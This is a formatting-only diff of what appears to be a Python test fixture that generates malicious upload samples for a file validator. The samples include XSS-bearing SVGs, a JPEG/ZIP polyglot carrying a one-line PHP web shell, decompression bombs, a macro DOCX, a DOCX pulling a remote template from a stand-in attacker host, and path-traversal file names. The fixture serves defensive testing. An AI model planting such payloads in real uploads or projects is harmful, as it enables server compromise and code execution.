@@ -28,8 +28,14 @@ def _zip(entries: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
 
 def docx(extra: dict | None = None) -> bytes:
     """A minimal OOXML word document (what `filetype` recognises as DOCX)."""
-    return _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>",
-                 "word/_rels/document.xml.rels": "<Relationships/>", **(extra or {})})
+    return _zip(
+        {
+            "[Content_Types].xml": "<Types/>",
+            "word/document.xml": "<w:document/>",
+            "word/_rels/document.xml.rels": "<Relationships/>",
+            **(extra or {}),
+        }
+    )
 
 
 def elf() -> bytes:
@@ -38,18 +44,30 @@ def elf() -> bytes:
 
 
 def pe() -> bytes:
-    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"This program cannot be run in DOS mode.\r\n" + b"\x00" * 200
+    return (
+        b"MZ\x90\x00\x03\x00\x00\x00"
+        + b"\x00" * 52
+        + b"This program cannot be run in DOS mode.\r\n"
+        + b"\x00" * 200
+    )
 
 
 def jar() -> bytes:
-    return _zip({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})
+    return _zip(
+        {
+            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: A\n",
+            "A.class": b"\xca\xfe\xba\xbe",
+        }
+    )
 
 
 def svg(script: bool) -> bytes:
     body = "<script>alert(1)</script>" if script else ""
     onload = "" if script else ' onload="alert(1)"'
-    return (f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"{onload} width="10" height="10">'
-            f'{body}<rect width="10" height="10"/></svg>').encode()
+    return (
+        f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"{onload} width="10" height="10">'
+        f'{body}<rect width="10" height="10"/></svg>'
+    ).encode()
 
 
 def gif_js() -> bytes:
@@ -76,7 +94,11 @@ def _written(writer: PdfWriter) -> bytes:
 def _open_action(action: dict) -> bytes:
     writer = _pdf_writer()
     writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
-        {NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v) for k, v in action.items()})
+        {
+            NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
+            for k, v in action.items()
+        }
+    )
     return _written(writer)
 
 
@@ -104,8 +126,11 @@ def pdf_obfuscated_javascript() -> bytes:
 def _png(width: int, height: int, bit_depth: int, color_type: int, channels: int = 1) -> bytes:
     """A whole, valid PNG of zeros, never held inflated: one block of rows is deflated once and its
     bytes repeated (a full flush makes each copy stand alone), then the zlib checksum is computed."""
+
     def chunk(kind, data):
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
 
     row = b"\x00" + bytes((width * bit_depth * channels + 7) // 8)
     assert height % 1000 == 0
@@ -115,10 +140,14 @@ def _png(width: int, height: int, bit_depth: int, color_type: int, channels: int
     checksum = 1
     for _ in range(height // 1000):
         checksum = zlib.adler32(block, checksum)
-    stream = b"\x78\xda" + repeated * (height // 1000) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
+    stream = (
+        b"\x78\xda" + repeated * (height // 1000) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
+    )
     stream += struct.pack(">I", checksum)
     ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")
+    )
 
 
 def png_bomb() -> bytes:
@@ -134,8 +163,13 @@ def docx_bomb() -> bytes:
 
 
 def docx_nested() -> bytes:
-    inner = _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>",
-                  "xl/embeddings/deeper.docx": docx()})
+    inner = _zip(
+        {
+            "[Content_Types].xml": "<Types/>",
+            "xl/workbook.xml": "<workbook/>",
+            "xl/embeddings/deeper.docx": docx(),
+        }
+    )
     return docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner})
 
 
@@ -154,7 +188,11 @@ CORPUS = {
     "svg_script": ("gambar.svg", lambda: svg(script=True), "type"),
     "svg_onload_as_png": ("gambar.png", lambda: svg(script=False), "type"),
     "html_as_jpg": ("foto.jpg", lambda: b"<!doctype html><html><body>" + SCRIPT, "type"),
-    "jpeg_with_zip": ("foto.jpg", lambda: jpeg() + _zip({"shell.php": "<?php system($_GET['c']);"}), "polyglot"),
+    "jpeg_with_zip": (
+        "foto.jpg",
+        lambda: jpeg() + _zip({"shell.php": "<?php system($_GET['c']);"}),
+        "polyglot",
+    ),
     "jpeg_with_html": ("foto.jpg", lambda: jpeg() + b"<html><body>" + SCRIPT, "polyglot"),
     "jpeg_script_in_comment": ("foto.jpg", lambda: jpeg(comment=SCRIPT), "polyglot"),
     "png_with_zip": ("layar.png", lambda: png_bytes() + _zip({"a.js": "alert(1)"}), "polyglot"),
@@ -167,11 +205,24 @@ CORPUS = {
     "png_too_many_pixels": ("peta.png", png_too_many_pixels, "bomb"),
     "docx_bomb": ("surat.docx", docx_bomb, "bomb"),
     "docx_nested": ("surat.docx", docx_nested, "nested"),
-    "docx_macro": ("surat.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macro"),
-    "docx_external_template": ("surat.docx", lambda: docx({"word/_rels/settings.xml.rels": (
-        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="http://penyerang.invalid/t.dotm" TargetMode="External"/>'
-        '</Relationships>')}), "macro"),
+    "docx_macro": (
+        "surat.docx",
+        lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
+        "macro",
+    ),
+    "docx_external_template": (
+        "surat.docx",
+        lambda: docx(
+            {
+                "word/_rels/settings.xml.rels": (
+                    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    'relationships/attachedTemplate" Target="http://penyerang.invalid/t.dotm" TargetMode="External"/>'
+                    "</Relationships>"
+                )
+            }
+        ),
+        "macro",
+    ),
     "ole_doc": ("surat.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "type"),
     "truncated_jpeg": ("foto.jpg", lambda: jpeg_with_gps((300, 200))[:-400], "truncated"),
     "truncated_png": ("layar.png", lambda: png_bytes((200, 200))[:-30], "truncated"),
@@ -189,8 +240,11 @@ NAMES = {
     "very_long": "a" * 300 + ".jpg",
 }
 NAME_AFTER_MULTIPART = {
-    "path_traversal": "passwd.jpg", "windows_traversal": "win.ini.jpg", "nul": "foto.php.jpg",
-    "rtl_override": "fotogpj.jpg", "very_long": None,  # still longer than 200 after Django's 255 cut: refused
+    "path_traversal": "passwd.jpg",
+    "windows_traversal": "win.ini.jpg",
+    "nul": "foto.php.jpg",
+    "rtl_override": "fotogpj.jpg",
+    "very_long": None,  # still longer than 200 after Django's 255 cut: refused
 }
 
 
